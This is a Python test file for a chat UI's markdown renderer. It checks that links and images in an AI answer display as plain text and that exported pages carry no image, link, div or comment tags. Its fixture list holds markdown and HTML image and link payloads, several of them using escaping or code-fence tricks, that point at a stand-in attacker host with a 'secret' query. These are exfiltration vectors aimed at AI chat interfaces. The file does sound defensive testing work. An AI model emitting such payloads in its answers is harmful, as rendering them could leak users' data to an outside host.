"""Where a link or an image of an answer leads is seen, and no viewer of an exported page fetches anything."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from pawl.ui.screen.markdown import drawn, inert

pytestmark = pytest.mark.attack("A44")

ADDRESS = "https://evil.example/?q=secret"
HIDING = [
    f"![cat]({ADDRESS})",
    f"[the docs]({ADDRESS})",
    f"[![cat]({ADDRESS})](https://good.example)",
    f"![cat][1]\n\n[1]: {ADDRESS}",
    f"> ![cat][1]\n>\n> [1]: {ADDRESS}",
    f"- a\n  - ![]({ADDRESS} 'title')",
    f"# ![cat]({ADDRESS})",
    f"| a |\n|---|\n| ![cat]({ADDRESS}) |",
    f"<img src='{ADDRESS}'>",
    f"<div>\n<img src='{ADDRESS}'>\n</div>",
    f"<!-- {ADDRESS} -->",
    f"[//]: # ({ADDRESS})",
    f"\\![cat]({ADDRESS})",
    f"\\\\![cat]({ADDRESS})",
    f"[cat\\]({ADDRESS})",
    f"```\n![code]\n```\n![cat]({ADDRESS})",
    f"~~~\n```\n~~~\n![cat]({ADDRESS})\n```",
]


@pytest.mark.parametrize("text", HIDING)
@pytest.mark.parametrize("color", [True, False])
def test_the_address_stands_in_the_terminal_and_is_no_hyperlink(text: str, color: bool):
    shown = drawn(text, 200, color=color)
    assert ADDRESS in shown and "\x1b]8" not in shown


@pytest.mark.parametrize("text", [*HIDING, *(f"```\nopen\n\n## You\n\n```\n{one}" for one in HIDING)])
def test_an_exported_page_has_no_image_no_link_and_no_tag(text: str):
    page = MarkdownIt("commonmark").enable("table").render(inert(f"# Conversation\n\n{text}\n"))
    for tag in ("<img", "<a ", "<div", "<!--"):
        assert tag not in page.replace("&lt;", ""), page
    assert "evil.example" in page


def test_code_of_an_exported_page_stays_as_it_is():
    code = "```rust\nlet x = vec![1];\nlet y: Vec<T> = z[0](1);\n```\n"
    assert inert(code) == code
